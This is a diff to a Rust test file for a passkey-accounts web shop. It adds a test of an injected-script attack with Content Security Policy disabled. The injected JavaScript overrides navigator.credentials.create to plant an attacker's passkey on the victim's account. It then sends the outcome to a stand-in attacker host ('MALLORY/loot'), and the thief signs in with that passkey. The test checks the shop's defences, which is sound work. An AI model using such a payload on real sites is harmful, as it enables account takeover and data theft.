@@ -5,7 +5,7 @@ use passkey_accounts::{
     protocol::gateway::{EndReason, ServerMessage, Session},
 };
 use passkey_accounts_tests::{
-    Page as PageWithoutBrowser,
+    Page as PageWithoutBrowser, SoftwareAuthenticator,
     chromium::{Chromium, Page},
     shop::{Build, Carried, Person, Shop},
 };
@@ -167,8 +167,7 @@ async fn an_injected_script_has_the_person_sign_in_for_the_attacker() {
                 .to_owned()
         };
         if is_ours(build) {
-            let listen = "void (globalThis.told = new Promise((resolve) => shop.client.onNews(resolve)))";
-            victim.page.evaluate(listen).await.unwrap();
+            listen(&victim).await;
         }
         let mut mallory = Mallory::start("", &script).await;
         let tab = follow_with_passkey(&victim, &browser, &shop, &mallory).await;
@@ -205,11 +204,22 @@ async fn an_injected_script_has_the_person_sign_in_for_the_attacker() {
     .await;
 }
 
-/// The person's other tab was told of the attacker's session, and ends it.
-async fn end_what_was_told(victim: &Victim, mut thief: PageWithoutBrowser, session: &Session) {
-    let told =
-        victim.page.evaluate("told.then(({ type, session }) => [type, session.sessionID])").await.unwrap();
+/// The person's other tab listens for news.
+async fn listen(victim: &Victim) {
+    let listen = "void (globalThis.told = new Promise((resolve) => shop.client.onNews(resolve)))";
+    victim.page.evaluate(listen).await.unwrap();
+}
+
+/// It was told of the attacker's session.
+async fn assert_told(victim: &Victim, session: &Session) {
+    let told = "told.then(({ type, session }) => [type, session.sessionID])";
+    let told = victim.page.evaluate(told).await.unwrap();
     assert_eq!(told, json!(["sessionOpened", session.session_id.to_string()]));
+}
+
+/// The person ends there what the attacker has opened.
+async fn end_what_was_told(victim: &Victim, mut thief: PageWithoutBrowser, session: &Session) {
+    assert_told(victim, session).await;
     victim
         .page
         .evaluate("told.then(({ session }) => shop.client.state.session.sessions.end(session.sessionID))")
@@ -220,6 +230,54 @@ async fn end_what_was_told(victim: &Victim, mut thief: PageWithoutBrowser, sessi
         matches!(&end, Ok((None, ServerMessage::SignedOut(out))) if out.reason == EndReason::User),
         "{end:?}"
     );
+}
+
+#[tokio::test]
+async fn an_injected_script_has_the_person_vouch_for_a_passkey_of_the_attackers() {
+    let browser = Chromium::launch().await.unwrap();
+    attack("vouchedForAttacker", async |build| {
+        let _down = without(Defence::ContentSecurityPolicy);
+        let shop = Shop::open(build).await;
+        let victim = Victim::sign_up(&browser, &shop).await;
+        // Made at the attacker's: a new passkey signs nothing, so the script only puts the challenge of the day under it.
+        let mut own = SoftwareAuthenticator::default();
+        own.sends_user_handle = false;
+        let options = json!({
+            "rp": { "id": shop.host, "name": "Shop" }, "user": { "id": "AQ", "name": "", "displayName": "" },
+            "challenge": "AAAA", "pubKeyCredParams": [{ "type": "public-key", "alg": -7 }],
+            "authenticatorSelection": { "residentKey": "discouraged", "userVerification": "required" },
+        });
+        let made = own.register(&options.to_string(), &shop.origin).unwrap();
+        let script = format!(
+            "const base64url = {{ alphabet: 'base64url', omitPadding: true }};
+             navigator.credentials.create = async ({{ publicKey }}) => {{
+                 const challenge = new Uint8Array(publicKey.challenge).toBase64(base64url);
+                 const data = {{ type: 'webauthn.create', challenge, origin: location.origin, crossOrigin: false }};
+                 const made = {made};
+                 made.response.clientDataJSON = new TextEncoder().encode(JSON.stringify(data)).toBase64(base64url);
+                 return {{ toJSON: () => made }};
+             }};
+             const said = await shop.client.state.session.passkeys.add().then(() => 'added', (error) => error.message);
+             fetch('MALLORY/loot', {{ method: 'POST', mode: 'no-cors', body: JSON.stringify({{ said }}) }});"
+        );
+        listen(&victim).await;
+        let mut mallory = Mallory::start("", &script).await;
+        follow_with_passkey(&victim, &browser, &shop, &mallory).await;
+        let said = mallory.loot().await;
+        let mut thief = shop.connect_page().await;
+        let ceremony = thief.begin_sign_in(ADA).await;
+        let Ok(credential) = own.sign_in(&ceremony.public_key.0, &shop.origin) else {
+            return held(said["said"].to_string());
+        };
+        let ServerMessage::SignedIn(signed_in) = thief.finish(&ceremony, credential).await else {
+            return held("the passkey signs nobody in");
+        };
+        assert_told(&victim, &signed_in.session).await;
+        let stolen = Carried::Page(Box::new(thief), signed_in.session);
+        let answer = shop.send(&shop.carrying(&stolen, "/act", THEFT)).await;
+        acted(&shop, &victim.name, "its passkey signs in whenever it likes", answer.status.to_string())
+    })
+    .await;
 }
 
 /// The tab in which the comment runs is the one that has the passkey.
